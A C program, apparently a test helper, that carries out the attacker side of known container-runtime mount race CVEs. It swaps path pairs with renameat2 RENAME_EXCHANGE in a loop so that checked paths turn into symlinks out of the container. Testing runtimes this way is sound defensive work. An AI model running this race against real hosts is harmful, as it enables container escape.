// The attacker's half of the mount races (CVE-2021-30465, CVE-2025-31133,
// CVE-2025-52565): exchanges each pair of paths with renameat2
// (RENAME_EXCHANGE), over and over, so that a path the runtime checked is
// another file, typically a symlink out of the container, when it is used.
//
// swap READY SECONDS A1 B1 [A2 B2 ...]: creates READY once running and
// stops after SECONDS (or when killed). If a pair cannot be exchanged at
// all (a wrong path), READY says so instead of staying empty: a race that
// never swapped anything would prove nothing.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc < 5 || (argc - 3) % 2) return 2;
    time_t end = time(NULL) + atoi(argv[2]);
    char failed[512] = "";
    for (int k = 3; k + 1 < argc && !failed[0]; k += 2)
        if (renameat2(AT_FDCWD, argv[k], AT_FDCWD, argv[k + 1], RENAME_EXCHANGE) != 0)
            snprintf(failed, sizeof failed, "cannot exchange %s and %s: %s\n", argv[k], argv[k + 1], strerror(errno));
    // Written whole before it appears, so the test never reads it half made.
    char tmp[4096];
    snprintf(tmp, sizeof tmp, "%s.tmp", argv[1]);
    int ready = open(tmp, O_CREAT | O_TRUNC | O_WRONLY | O_CLOEXEC, 0644);
    if (failed[0]) dprintf(ready, "%s", failed);
    close(ready);
    rename(tmp, argv[1]);
    if (failed[0]) return 3;
    while (time(NULL) < end)
        for (int k = 3; k + 1 < argc; k += 2)
            renameat2(AT_FDCWD, argv[k], AT_FDCWD, argv[k + 1], RENAME_EXCHANGE);
    return 0;
}
